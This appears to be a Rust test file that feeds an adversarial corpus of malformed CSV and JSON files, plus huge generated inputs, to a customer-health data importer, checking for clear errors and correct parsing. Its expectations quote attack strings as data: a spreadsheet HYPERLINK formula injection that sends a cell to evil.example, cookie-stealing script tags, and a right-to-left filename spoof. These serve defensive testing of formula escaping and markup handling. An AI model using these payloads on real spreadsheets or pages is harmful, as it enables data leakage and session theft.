//! The adversarial corpus: every file under `tests/corpus/` (small, committed) and a few big
//! ones generated here at run time (a 100 MB single line, 100k columns, 1M-deep JSON, a large
//! sparse JSON, a 100 MB cell). Each must give a clear file-level error or a correct result —
//! never a panic or a hang — and pass the fuzz oracle (`tests/fuzz_harness`): same result for
//! any chunk split, reconciled row counts, bounded scores, safe exports.
//!
//! Every committed corpus file must have an expectation in [`expect`]; a new file without one
//! fails the test.
#![cfg(not(target_arch = "wasm32"))]

mod fuzz_harness;

use std::path::Path;
use std::time::{Duration, Instant};

use customer_health::ingest::report::{FileReport, TableKind};
use customer_health::model::config::Model;
use customer_health::results::Results;
use fuzz_harness::{check, run, Case, FileCase};

fn case(name: &str, bytes: Vec<u8>, cuts: Vec<usize>) -> Case {
    Case {
        files: vec![FileCase {
            name: name.to_string(),
            bytes,
            cuts,
            mapping: None,
        }],
        model: None,
    }
}

fn error_of(f: &FileReport) -> &str {
    f.error.as_deref().unwrap_or("")
}

fn names(r: &Results) -> Vec<(String, Option<String>)> {
    let mut v: Vec<(String, Option<String>)> = r
        .accounts
        .iter()
        .map(|a| (a.account_id.clone(), a.name.clone()))
        .collect();
    v.sort();
    v
}

fn name_of<'r>(r: &'r Results, id: &str) -> Option<&'r str> {
    r.accounts
        .iter()
        .find(|a| a.account_id == id)
        .and_then(|a| a.name.as_deref())
}

/// A clear file-level error: no rows used, a message naming the problem.
fn file_error(f: &FileReport, needle: &str) {
    assert!(
        error_of(f).contains(needle),
        "{}: expected an error containing {needle:?}, got {:?}",
        f.name,
        f.error
    );
    assert_eq!(f.rows_used, 0, "{}", f.name);
}

fn table(f: &FileReport, kind: TableKind, used: u64, rejected: u64) {
    assert_eq!(f.error, None, "{}", f.name);
    assert_eq!(f.kind, Some(kind), "{}", f.name);
    assert_eq!(
        (f.rows_used, f.rows_rejected),
        (used, rejected),
        "{}: issues {:?}",
        f.name,
        f.issues
    );
}

/// The expected outcome of each committed corpus file.
fn expect(name: &str, r: &Results) {
    let f = &r.files[0];
    let has_issue = |needle: &str| f.issues.iter().any(|i| i.reason.contains(needle));
    match name {
        "blank_lines.csv" => file_error(f, "no header row"),
        "empty.csv" => file_error(f, "empty"),
        "only_bom.csv" | "only_bom_utf16.csv" => file_error(f, "no header row"),
        "header_only.csv" | "header_only_no_newline.csv" => {
            table(f, TableKind::Accounts, 0, 0);
            assert!(f.notes.iter().any(|n| n.contains("no data rows")));
        }
        "truncated_quote.csv" => {
            // The open quote swallows the rest: one row used, one rejected with the reason.
            table(f, TableKind::Accounts, 1, 1);
            assert!(has_issue("never closed"));
        }
        "truncated_quote_in_header.csv" => file_error(f, "unterminated quote"),
        "truncated_file.csv" => {
            table(f, TableKind::Accounts, 1, 1);
            assert!(has_issue("fewer fields") || has_issue("2 fields"));
        }
        "nul_bytes.csv" => {
            table(f, TableKind::Accounts, 0, 4);
            assert!(has_issue("NUL"));
        }
        "png_image.csv" => file_error(f, "PNG image"),
        "xlsx_zip_signature.xlsx" => file_error(f, "Excel workbook"),
        "latin1_accounts.csv" => {
            table(f, TableKind::Accounts, 3, 0);
            assert_eq!(name_of(r, "A1"), Some("Société Générale"));
            assert_eq!(name_of(r, "A3"), Some("Nuñez y Peña"));
            assert!(f.notes.iter().any(|n| n.contains("Latin-1")));
        }
        "windows1252_accounts.csv" => {
            table(f, TableKind::Accounts, 2, 0);
            assert_eq!(name_of(r, "A1"), Some("“Smart” Quotes — Ltd"));
            assert_eq!(name_of(r, "A2"), Some("Price €"));
        }
        "utf16le_bom.csv" | "utf16be_bom.csv" | "utf16le_nobom.csv" | "utf16le_tab_excel.txt" => {
            table(f, TableKind::Accounts, 3, 0);
            assert_eq!(name_of(r, "A1"), Some("Zoë ✓"));
            assert_eq!(name_of(r, "A2"), Some("مرحبا"));
            assert_eq!(name_of(r, "A3"), Some("😀 Smile"));
            assert!(f.notes.iter().any(|n| n.contains("UTF-16")));
        }
        "excel_serial_dates.csv" => {
            // 45444 is 2024-06-01 in Excel's 1900 date system; every row is used.
            table(f, TableKind::Usage, 4, 0);
            assert_eq!(r.summary.as_of, "2024-06-01");
        }
        "formulas.csv" => {
            // The bare CR in "\t=1+1,\r=2" ends a record (as in every CSV reader): the
            // fragment "=2" is rejected as a short row; "-3.5" as ARR is a negative value.
            table(f, TableKind::Accounts, 4, 1);
            assert_eq!(
                name_of(r, "=1+1"),
                Some("=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")")
            );
            assert_eq!(name_of(r, "A4"), Some("-3.5"));
            let csv = customer_health::output::to_csv(r, &Model::default());
            assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
            assert!(csv.contains("'=1+1,"), "{csv}");
            assert!(csv.contains(",'-2+3,"), "{csv}");
        }
        "emoji_rtl.csv" => {
            table(f, TableKind::Accounts, 5, 0);
            assert_eq!(name_of(r, "A1"), Some("👨‍👩‍👧‍👦 Family Co 🏳️‍🌈"));
            assert_eq!(name_of(r, "A2"), Some("شركة الرياض"));
            assert_eq!(name_of(r, "A4"), Some("\u{202e}gnp.exe"));
        }
        "html_script_names.csv" => {
            // Markup is data: kept byte for byte (the page renders it as text).
            table(f, TableKind::Accounts, 4, 0);
            assert_eq!(name_of(r, "A1"), Some("<img src=x onerror=alert(1)>"));
            assert_eq!(
                name_of(r, "A2"),
                Some("<script>alert(document.cookie)</script>")
            );
            assert_eq!(name_of(r, "<i>A4</i>"), Some("&lt;escaped&gt;"));
        }
        "json_wrong_types.json" => {
            // Objects are rows whatever their value types; non-objects are rejected rows;
            // cells of the wrong type are ignored with a reason.
            table(f, TableKind::Accounts, 5, 4);
            assert!(has_issue("not an object"));
            assert!(has_issue("'true' is not a number"));
            assert_eq!(name_of(r, "A5"), Some("Fine"));
        }
        "json_deep_nesting.json" => {
            // One item (a nested array), not an object: rejected; no table.
            assert_eq!(f.rows_used, 0);
            assert!(f.error.is_some());
        }
        "json_nested_values.json" => {
            table(f, TableKind::Accounts, 1, 0);
            assert!(name_of(r, "A1").unwrap().starts_with("{\"a\""));
        }
        "json_not_records.json" => {
            assert!(f.error.is_some());
            assert_eq!(f.rows_used, 0);
        }
        "json_object_without_rows.json" => file_error(f, "no \"rows\" or \"data\" array"),
        "json_duplicate_keys.json" => table(f, TableKind::Accounts, 1, 0),
        "json_truncated.json" => file_error(f, "invalid JSON"),
        "duplicated_headers.csv" => {
            // The first column of a duplicated header wins; the rows are read.
            table(f, TableKind::Accounts, 2, 0);
            assert_eq!(name_of(r, "A1"), Some("First"));
            assert_eq!(
                r.accounts
                    .iter()
                    .find(|a| a.account_id == "A1")
                    .unwrap()
                    .arr,
                Some(100.0)
            );
        }
        "cr_only_line_ends.csv" => table(f, TableKind::Accounts, 2, 0),
        "mixed_line_ends.csv" => table(f, TableKind::Accounts, 3, 0),
        "semicolon_decimal_comma.csv" => {
            table(f, TableKind::Accounts, 2, 0);
            assert_eq!(
                r.accounts
                    .iter()
                    .find(|a| a.account_id == "A1")
                    .unwrap()
                    .arr,
                Some(1234.5)
            );
        }
        "extreme_numbers.csv" => {
            // Non-finite and negative numbers are ignored cells, never NaN in results.
            table(f, TableKind::Accounts, 6, 0);
            assert!(f.cells_ignored >= 6);
            assert!(r
                .accounts
                .iter()
                .all(|a| a.arr.map_or(true, f64::is_finite)));
        }
        "impossible_dates.csv" => {
            table(f, TableKind::Usage, 1, 5);
            assert!(has_issue("is not a date"));
            assert!(has_issue("implausible"));
        }
        "ragged_rows.csv" => table(f, TableKind::Accounts, 2, 2),
        "quotes_everywhere.csv" => {
            // `"A3",""""` is one quote character as the name, then a missing ARR cell.
            assert_eq!(name_of(r, "A1"), Some("He said \"hi\""));
            assert_eq!(name_of(r, "A2"), Some("multi\nline\nname"));
            assert_eq!(f.rows_read, 3);
        }
        "title_rows.csv" => {
            // Two title lines and a blank line above the header are skipped, and said so.
            table(f, TableKind::Accounts, 2, 0);
            assert!(f
                .notes
                .iter()
                .any(|n| n.contains("2 title line(s) above the header skipped")
                    && n.contains("line 1 'Customer export")
                    && n.contains("line 2 'Region: EMEA'")));
            assert_eq!(name_of(r, "A2"), Some("Beta"));
        }
        "unicode_headers.csv" => {
            // Full-width "Ａccount ＩＤ" folds to account_id, "ARR (€)" is arr and the
            // accented "Näme" folds to name.
            table(f, TableKind::Accounts, 1, 0);
            let a = r
                .accounts
                .iter()
                .find(|a| a.account_id == "A1")
                .expect("A1");
            assert_eq!(a.arr, Some(100.0));
            assert_eq!(name_of(r, "A1"), Some("Acme"));
        }
        "whitespace_ids.csv" => {
            // Ids are trimmed, ASCII spaces and no-break spaces alike: "  A1  " and "A1" are
            // the same account (the second rejected), and "\u{a0}A2\u{a0}" is "A2".
            table(f, TableKind::Accounts, 2, 1);
            assert!(has_issue("duplicate account id"));
            assert_eq!(name_of(r, "A2"), Some("Nbsp"));
        }
        other => panic!("tests/corpus/{other} has no expectation in tests/corpus.rs"),
    }
    // Whatever the outcome, the user sees counts that reconcile and, for errors, a message
    // of bounded size.
    for f in &r.files {
        assert_eq!(f.rows_read, f.rows_used + f.rows_rejected, "{}", f.name);
        assert!(error_of(f).len() <= 2048, "{}: error too long", f.name);
    }
}

#[test]
fn every_corpus_file_gives_a_clear_error_or_a_correct_result() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus");
    let mut paths: Vec<_> = std::fs::read_dir(&dir)
        .expect("tests/corpus exists")
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.is_file())
        .collect();
    paths.sort();
    assert!(paths.len() >= 35, "corpus has {} files", paths.len());
    for p in paths {
        let name = p.file_name().unwrap().to_string_lossy().into_owned();
        let bytes = std::fs::read(&p).unwrap();
        let len = bytes.len();
        // Whole, byte by byte, and in odd chunks: the oracle compares them.
        for cuts in [
            Vec::new(),
            (1..len).collect(),
            vec![1, 2, 3, 5, 8, 13, 21, 34],
        ] {
            let c = case(&name, bytes.clone(), cuts);
            if let Err(e) = check(&c) {
                panic!("{name}: {e}");
            }
        }
        let r = run(&case(&name, bytes, Vec::new()), false, &Model::default());
        expect(&name, &r);
    }
}

/// Runs a big generated input in 1 MiB chunks (as the web worker does) within a time budget.
fn big(name: &str, bytes: Vec<u8>, budget: Duration) -> Results {
    let cuts: Vec<usize> = (1..=bytes.len() / (1 << 20)).map(|i| i << 20).collect();
    let c = case(name, bytes, cuts);
    let start = Instant::now();
    let r = run(&c, true, &Model::default());
    let took = start.elapsed();
    assert!(took < budget, "{name}: took {took:?} (budget {budget:?})");
    fuzz_harness::check_results(&c, &r, &Model::default())
        .unwrap_or_else(|e| panic!("{name}: {e}"));
    r
}

/// Debug builds are ~10× slower than release; budgets are generous but catch hangs.
const BUDGET: Duration = Duration::from_secs(120);

#[test]
fn a_100_mb_single_line_is_refused_quickly() {
    // No delimiter and no line end: one 100 MB "header".
    let r = big("accounts.csv", vec![b'x'; 100 << 20], BUDGET);
    let f = &r.files[0];
    assert!(f.error.as_deref().unwrap().contains("not recognised"));
    assert!(f.error.as_deref().unwrap().len() < 2048);
    assert!(f.mapping.iter().all(|m| m.header.len() <= 1030));
    assert_eq!(f.bytes, 100 << 20);
}

#[test]
fn a_100_mb_cell_is_a_rejected_row_not_a_100_mb_name() {
    let mut bytes = b"account_id,name,arr\nA1,\"".to_vec();
    bytes.extend(std::iter::repeat(b'n').take(100 << 20));
    bytes.extend_from_slice(b"\",100\nA2,Short,200\n");
    let r = big("accounts.csv", bytes, BUDGET);
    let f = &r.files[0];
    assert_eq!((f.rows_read, f.rows_used, f.rows_rejected), (2, 1, 1));
    assert!(f.issues[0].reason.contains("rows over"), "{:?}", f.issues);
    assert_eq!(
        names(&r),
        vec![("A2".to_string(), Some("Short".to_string()))]
    );
}

#[test]
fn a_100k_column_header_is_a_clear_file_error() {
    let mut header: Vec<String> = (0..100_000).map(|i| format!("col_{i}")).collect();
    header[0] = "account_id".into();
    let mut text = header.join(",");
    text.push('\n');
    let row: Vec<String> = (0..100_000).map(|i| i.to_string()).collect();
    text.push_str(&row.join(","));
    text.push('\n');
    let r = big("accounts.csv", text.into_bytes(), Duration::from_secs(30));
    let f = &r.files[0];
    assert!(
        f.error.as_deref().unwrap().contains("100000 columns"),
        "{:?}",
        f.error
    );
    assert_eq!((f.rows_read, f.rows_rejected), (1, 1));
}

#[test]
fn a_wide_but_allowed_header_is_read() {
    // 10k columns (under the 16,384 cap): recognised and read.
    let mut header: Vec<String> = (0..10_000).map(|i| format!("extra_{i}")).collect();
    header[0] = "account_id".into();
    header[1] = "name".into();
    let mut row: Vec<String> = (0..10_000).map(|i| i.to_string()).collect();
    row[0] = "A1".into();
    row[1] = "Wide".into();
    let text = format!("{}\n{}\n", header.join(","), row.join(","));
    let r = big("accounts.csv", text.into_bytes(), Duration::from_secs(30));
    assert_eq!(r.files[0].rows_used, 1);
    assert_eq!(
        names(&r),
        vec![("A1".to_string(), Some("Wide".to_string()))]
    );
}

#[test]
fn deeply_nested_json_is_a_clear_error_without_overflowing_the_stack() {
    for depth in [10_000usize, 1_000_000] {
        // As the value of a field: serde_json's recursion limit answers.
        let mut text = String::from("[{\"account_id\":\"A1\",\"x\":");
        text.push_str(&"[".repeat(depth));
        text.push_str(&"]".repeat(depth));
        text.push_str("}]");
        let r = big("accounts.json", text.into_bytes(), BUDGET);
        let f = &r.files[0];
        assert!(
            f.error.as_deref().unwrap().contains("invalid JSON"),
            "{:?}",
            f.error
        );
        // As items of the array: skipped iteratively, each a rejected non-object.
        let text = format!("{}{}", "[".repeat(depth), "]".repeat(depth));
        let r = big("accounts.json", text.into_bytes(), BUDGET);
        assert_eq!(r.files[0].rows_used, 0);
    }
}

#[test]
fn huge_and_sparse_json_are_bounded() {
    // 200k records of which each has its own key: a dense table would need 4·10¹⁰ cells.
    let mut text = String::from("[");
    for i in 0..200_000 {
        if i > 0 {
            text.push(',');
        }
        text.push_str(&format!("{{\"account_id\":\"A{i}\",\"k{i}\":1}}"));
    }
    text.push(']');
    let r = big("accounts.json", text.into_bytes(), BUDGET);
    let f = &r.files[0];
    assert!(
        f.error.as_deref().unwrap().contains("distinct keys")
            || f.error.as_deref().unwrap().contains("too sparse"),
        "{:?}",
        f.error
    );
    // 20k well-formed records (a large portfolio): read.
    let mut text = String::from("[");
    for i in 0..20_000 {
        if i > 0 {
            text.push(',');
        }
        text.push_str(&format!(
            "{{\"account_id\":\"A{i}\",\"name\":\"<b>Account {i}</b>\",\"arr\":{}}}",
            i * 10
        ));
    }
    text.push(']');
    let r = big("accounts.json", text.into_bytes(), BUDGET);
    assert_eq!(r.files[0].rows_used, 20_000);
}
